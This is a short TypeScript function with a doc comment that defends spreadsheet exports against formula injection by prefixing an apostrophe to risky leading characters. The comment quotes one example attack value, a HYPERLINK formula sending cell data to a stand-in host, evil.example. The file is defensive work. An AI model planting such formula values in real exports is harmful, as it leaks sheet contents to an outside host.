/**
 * Spreadsheets run a cell that starts with = + - or @ (or a tab or line break before one) as a formula: a toil
 * source named `=HYPERLINK("https://evil.example?"&A1,"open")` would leak the sheet or run a DDE command when a
 * manager opens the export. Such text gets a leading apostrophe, which spreadsheets show as plain text (OWASP's
 * advice). Numbers are never strings here, so a negative number stays a number.
 */
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
